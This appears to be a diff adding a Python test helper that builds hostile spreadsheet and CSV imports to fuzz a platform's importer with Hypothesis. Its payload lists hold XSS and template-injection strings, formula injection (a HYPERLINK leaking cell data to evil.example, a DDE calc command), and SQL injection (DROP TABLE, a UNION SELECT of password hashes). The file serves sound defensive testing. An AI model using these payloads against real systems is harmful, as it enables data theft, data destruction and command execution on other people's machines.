@@ -1,0 +1,199 @@
+"""What an abuser types, and ways to check what the platform made of it (imported by the security tests).
+
+The payload lists are the classic ones (markup, template syntax, spreadsheet formulas, SQL and FTS5
+syntax, control characters, digits that are not ASCII, huge values); the strategies mix them with
+Hypothesis's own random text. Every test that uses them runs derandomized, so CI sees the same cases.
+"""
+import csv
+import io
+import re
+from datetime import date, datetime, time
+
+from hypothesis import HealthCheck, Phase, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from sqlalchemy import text
+
+from platform.extensions import db
+
+# One profile for every property test here: reproducible, no example database in the work tree,
+# and the function-scoped `app` fixture shared by a test's examples on purpose (each example checks
+# deltas, so the rows earlier examples left behind do not matter). No shrinking: an example builds a
+# workbook and runs an import, so shrinking one takes minutes; the failing example is printed as found.
+abuse = settings(max_examples=40, deadline=None, derandomize=True, database=None, print_blob=False,
+                 phases=[Phase.explicit, Phase.reuse, Phase.generate],
+                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
+                                        HealthCheck.data_too_large, HealthCheck.filter_too_much])
+
+XSS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "{{7*7}}",
+    "{% for x in range(3) %}x{% endfor %}",
+    "javascript:alert(1)",
+    "</textarea><script>alert(1)</script>",
+]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+]
+SQLISH = ["' OR 1=1 --", "' OR '1'='1", "%", "_", "%%", "%_%", '"', "'", "\\", "1; DROP TABLE enterprises; --",
+          "' UNION SELECT username, password_hash FROM users --"]
+FTS = ["NEAR(", "NEAR(a b)", "*", "a*", "AND", "OR", "NOT", "AND OR NOT", '"unbalanced', "(", ")", "((a)",
+       "name:x", "^a", "{a b}", "-a", "+a", "a OR b", '""', "NOT *"]
+CONTROL = ["\x00", "a\x00b", "\x01\x02\x1f", "\x7f", "\u200b", "\u202e反向", "\ufeff", "\r\n", "\t", "\x0b\x0c"]
+NUMBERS = ["²", "١٢٣", "٣", "１２", "9" * 5000, "99999999999999999999999", "-1", "0", "1e309", "1e30", "NaN",
+           "Infinity", "-0", "0x10", " 1 ", "1_000", "3.14", ""]
+DATES = ["0000-00-00", "9999-12-31", "0001-01-01", "2025-02-30", "2025-13-45", "20250101", "2025/1/1",
+         "1900-01-00", "-2025-01-01", "10000-01-01", "2025年13月1日"]
+HUGE = ["x" * 100_000, "企" * 5_000, "<b>" * 2_000]
+
+PAYLOADS = XSS + FORMULAS + SQLISH + FTS + CONTROL + NUMBERS + DATES + HUGE
+
+payload = st.sampled_from(PAYLOADS)
+nasty_text = st.one_of(
+    payload,
+    st.text(max_size=40),
+    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS[:40]), st.text(max_size=10)),
+)
+
+
+def xlsx_safe(value):
+    """openpyxl refuses the control characters XML cannot hold; an Excel file never carries them."""
+    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
+
+
+# A cell as a spreadsheet can hold it: text, numbers of any size, dates and times far outside any
+# plausible range, booleans, blanks.
+cell = st.one_of(
+    nasty_text,
+    st.integers(min_value=-(10**15), max_value=10**15),
+    st.floats(allow_nan=False, allow_infinity=False),
+    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
+    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
+    st.times(),
+    st.booleans(),
+    st.none(),
+)
+
+
+def rows_for(headers: list[str], *, max_rows: int = 6, plausible: dict | None = None):
+    """Rows of arbitrary cells, some shorter and some longer than the header row, some empty.
+
+    `plausible` maps a header to a strategy of values that pass its column's checks; a cell of such
+    a column is drawn from it half the time, so that rows get past the first check and reach the
+    deeper ones (listing, dates, amounts) with the other cells still arbitrary.
+    """
+    plausible = plausible or {}
+
+    def column(header):
+        return st.one_of(plausible[header], cell) if header in plausible else cell
+
+    full = st.tuples(*[column(h) for h in headers]).map(list) if headers else st.just([])
+    row = st.one_of(
+        full,
+        full,
+        full.flatmap(lambda r: st.integers(0, len(r)).map(lambda n: r[:n])),  # cut short
+        full.flatmap(lambda r: st.lists(cell, max_size=3).map(lambda extra: r + extra)),  # spills over
+        st.just([]),  # blank
+    )
+    return st.lists(row, min_size=1, max_size=max_rows)
+
+
+def headers_for(required: list[str], optional: list[str]):
+    """The required headers (one in ten times one is missing), some optional ones and some unknown
+    extras, shuffled."""
+    kept = st.integers(0, 9).flatmap(
+        lambda n: st.just(list(required)) if n else
+        st.sampled_from(required).map(lambda gone: [h for h in required if h != gone]))
+    return st.tuples(
+        kept,
+        st.lists(st.sampled_from(optional), unique=True, max_size=len(optional)) if optional else st.just([]),
+        st.lists(st.sampled_from(["备注", "序号", "=SUM(A1:A9)", "<script>alert(1)</script>", ""]), unique=True,
+                 max_size=2),
+    ).flatmap(lambda parts: st.permutations(parts[0] + parts[1] + parts[2]))
+
+
+def xlsx_file(headers, rows) -> bytes:
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append([xlsx_safe(h) for h in headers])
+    for row in rows:
+        if row:
+            sheet.append([xlsx_safe(v) for v in row])
+        else:
+            sheet.append([None])
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+def csv_file(headers, rows) -> bytes:
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(headers)
+    for row in rows:
+        writer.writerow(["" if v is None else v for v in row])
+    return out.getvalue().encode("utf-8")
+
+
+def build_file(fmt: str, headers, rows) -> bytes:
+    return xlsx_file(headers, rows) if fmt == "xlsx" else csv_file(headers, rows)
+
+
+CJK = re.compile(r"[\u4e00-\u9fff]")
+
+
+def is_chinese(message: str) -> bool:
+    return bool(message) and bool(CJK.search(message))
+
+
+def row_counts() -> dict[str, int]:
+    """Rows in every table of the platform: a run that wrote nothing leaves this unchanged.
+    (One statement for all tables: property tests take this twice an example.)"""
+    names = [table.name for table in db.metadata.sorted_tables]
+    columns = ", ".join(f'(SELECT count(*) FROM "{name}")' for name in names)
+    return dict(zip(names, db.session.execute(text(f"SELECT {columns}")).one()))
+
+
+def delta(before: dict, after: dict) -> dict:
+    return {name: after[name] - before[name] for name in after if after[name] != before.get(name, 0)}
+
+
+def check_report(report, numbers: set[int], headers: set[str]) -> None:
+    """An import report names, for each refusal, a row of the file, a column of the file, and a reason in Chinese."""
+    assert report.created + report.updated + report.unchanged + report.rejected_rows == report.total
+    for row, column, reason in report.errors:
+        assert row in numbers, (row, numbers)
+        assert column in headers, (column, headers)
+        assert is_chinese(reason), reason
+
+
+def file_rows(fmt: str, headers, rows) -> set[int]:
+    """The numbers (as the user sees them) of the rows an importer should look at: the non-blank ones."""
+    numbers = set()
+    for number, row in enumerate(rows, start=2):
+        values = [xlsx_safe(v) if fmt == "xlsx" else v for v in row]
+        if any(v is not None and str(v).strip() != "" for v in values):
+            numbers.add(number)
+    return numbers
+
+
+def read_xlsx(data: bytes) -> list[list]:
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    return [[c.value for c in row] for row in sheet.iter_rows()]
+
+
+def xlsx_cell_types(data: bytes) -> list[list[str]]:
+    """openpyxl's data type of every cell ('f' is a formula)."""
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    return [[c.data_type for c in row] for row in sheet.iter_rows()]
+
+
+FIXED_TIME = time(9, 30)
